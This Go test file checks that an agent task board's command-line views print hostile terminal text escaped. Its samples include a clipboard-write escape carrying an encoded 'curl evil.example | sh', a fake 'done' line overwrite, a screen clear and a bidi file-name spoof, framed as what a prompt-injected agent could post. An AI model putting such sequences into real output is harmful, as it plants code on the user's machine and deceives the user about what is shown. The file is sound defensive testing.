package main

import (
	"context"
	"database/sql"
	"encoding/json"
	"os"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/stretchr/testify/require"

	"github.com/tractat-us/bee/actions"
	"github.com/tractat-us/bee/actions/board"
	"github.com/tractat-us/bee/identity"
)

// What an agent (a prompt-injected one among them) can post to reach a
// person's terminal: a clipboard write (OSC 52), a window title, a screen
// clear, a line overwrite that fakes a "done" row, and a bidi override
// that reverses what is read.
const (
	osc52       = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a"
	windowTitle = "\x1b]0;pwned\x1b\\"
	screenClear = "\x1b[2J\x1b[H"
	overwrite   = "\x1b[2K\x1b[1Ga-9 done by agent:boss#00000000"
	bidi        = "\u202etxt.exe\u2066"
	c1CSI       = "\u009b31m"
	hostile     = "fix " + osc52 + windowTitle + screenClear + overwrite + bidi + c1CSI
)

// requireInert fails t if out holds anything a terminal would act on: a
// control byte other than newline and tab (a body keeps its tabs), a C1
// control, or a bidi control or other invisible format character (a
// zero-width space, a tag character).
func requireInert(t *testing.T, out string) {
	t.Helper()
	for i := 0; i < len(out); i++ {
		c := out[i]
		require.False(t, (c < 0x20 && c != '\n' && c != '\t') || c == 0x7f, "control byte %#x reaches the terminal in %q", c, out)
	}
	for _, r := range out {
		require.False(t, r >= 0x80 && r <= 0x9f, "C1 control %U reaches the terminal in %q", r, out)
		require.False(t, unicode.Is(unicode.Cf, r) || r == 0x2028 || r == 0x2029,
			"bidi control or other invisible format character %U reaches the terminal in %q", r, out)
	}
}

// rewriteTitle sets the title of the action seq straight in the board
// file, as a board written before titles were checked may hold it (bee
// post refuses control characters in a title now): every view must still
// show it inert.
func rewriteTitle(t *testing.T, path string, seq int, title string) {
	t.Helper()
	db, err := sql.Open("sqlite", "file:"+path+"?_pragma=busy_timeout(5000)")
	require.NoError(t, err)
	defer db.Close()
	// An ended action is in ended_actions (see actions/board's schema 6).
	for _, table := range []string{"actions", "ended_actions"} {
		_, err = db.ExecContext(t.Context(), `UPDATE `+table+` SET title = ? WHERE seq = ?`, title, seq)
		require.NoError(t, err)
	}
}

// Board text is printed escaped by every human view, and kept as posted on
// the board and in --json.
func TestMain_HostileTextPrintedEscaped(t *testing.T) {
	t.Parallel()
	path := boardPath(t)
	out := bee(t, path, "post", "--to", "worker", "fix "+bidi, "first line\r"+overwrite+"\n\x07second\tline\n")
	requireInert(t, out)
	require.Contains(t, out, `fix \u202etxt.exe\u2066`)
	rewriteTitle(t, path, 1, hostile)

	b, err := board.Open(path, nil)
	require.NoError(t, err)
	defer b.Close()
	who := identity.ID("agent:worker#0491068b")
	require.NoError(t, b.Join(t.Context(), actions.Member{ID: who, PID: os.Getpid(), ClaudePID: 4241, SessionID: "sess" + screenClear + bidi}))
	p, err := b.Next(t.Context(), who, "", time.Second)
	require.NoError(t, err)
	require.Len(t, p.Records, 1)

	out = bee(t, path, "list")
	requireInert(t, out)
	require.Contains(t, out, `fix \x1b]52;c;Y3Vyb`, "the title is cut to fit, escapes and all")

	out = bee(t, path, "show", "a-1")
	requireInert(t, out)
	require.Contains(t, out, `\x1b]0;pwned\x1b\\x1b[2J\x1b[H\x1b[2K\x1b[1Ga-9 done by agent:boss#00000000\u202etxt.exe\u2066\u009b31m`)
	require.Contains(t, out, "\nbody:\nfirst line\\r\\x1b[2K\\x1b[1Ga-9 done by agent:boss#00000000\n\\x07second\tline\n", "the body keeps its lines and tabs")

	out = bee(t, path, "agents")
	requireInert(t, out)
	require.Contains(t, out, `sess\x1b[2J\x1b[H\u202etxt.exe\u2066`)

	_, err = b.Finish(t.Context(), who, "a-1", "done\r"+screenClear+"all good")
	require.NoError(t, err)
	out = bee(t, path, "show", "a-1")
	requireInert(t, out)
	require.Contains(t, out, "\nresult:\ndone\\r\\x1b[2J\\x1b[Hall good\n")
	out = bee(t, path, "wait", "a-1")
	requireInert(t, out)
	require.Contains(t, out, `a-1 done by agent:worker#0491068b: done\r\x1b[2J\x1b[Hall good`)

	bee(t, path, "post", "second")
	rewriteTitle(t, path, 2, "second "+screenClear+bidi)
	out = bee(t, path, "readdress", "a-2", "--to", "reviewer")
	requireInert(t, out)
	out = bee(t, path, "readdress", "a-2", "--to", "worker", "--json")
	requireInert(t, out)
	out = bee(t, path, "cancel", "a-2")
	requireInert(t, out)
	require.Contains(t, out, `cancelled a-2: second \x1b[2J\x1b[H\u202etxt.exe\u2066`)

	// The board keeps the text as posted, and --json carries it exactly,
	// with what a terminal would act on as JSON escapes.
	out = bee(t, path, "show", "--json", "a-1")
	requireInert(t, out)
	require.Contains(t, out, `\u202etxt.exe\u2066\u009b31m`)
	for _, args := range [][]string{{"list", "--all", "--json"}, {"agents", "--json"}, {"wait", "a-1", "--json"}, {"show", "a-2", "--json"}} {
		requireInert(t, bee(t, path, args...))
	}
	var rec actions.Record
	require.NoError(t, json.Unmarshal([]byte(out), &rec))
	require.Equal(t, hostile, rec.Title)
	require.Equal(t, "done\r"+screenClear+"all good", rec.Result)
	var members []actions.MemberInfo
	require.NoError(t, json.Unmarshal([]byte(bee(t, path, "agents", "--json")), &members))
	require.Len(t, members, 1)
	require.Equal(t, "sess"+screenClear+bidi, members[0].SessionID)
}

func TestMain_WatchPrintsEscaped(t *testing.T) {
	t.Parallel()
	path := boardPath(t)
	bee(t, path, "post", "before the watch")
	rewriteTitle(t, path, 1, hostile)
	stdout, stderr := newLineReader(), newLineReader()
	m := &Main{Stdin: strings.NewReader(""), Stdout: stdout, Stderr: stderr, Getenv: func(string) string { return "" }}
	ctx, cancel := context.WithCancel(t.Context())
	var wg sync.WaitGroup
	var runErr error
	wg.Go(func() { runErr = m.Run(ctx, []string{"--board", path, "watch"}) })
	defer func() {
		cancel()
		wg.Wait()
		require.Equal(t, exitInterrupted, exitOf(runErr), "%v", runErr)
		stdout.close()
		stderr.close()
	}()

	require.Contains(t, stderr.next(t, 10*time.Second), "watching "+path)
	b, err := board.Open(path, nil)
	require.NoError(t, err)
	defer b.Close()
	// A claim of a-1 shows it as it now is.
	_, err = b.Next(t.Context(), "agent:worker#12345678", "", 5*time.Second)
	require.NoError(t, err)
	line := stdout.next(t, 10*time.Second)
	requireInert(t, line)
	require.Regexp(t, `^\d\d:\d\d:\d\d  a-1 +claimed by agent:worker#12345678 +for anyone +fix \\x1b\]52;c;`, line)
}
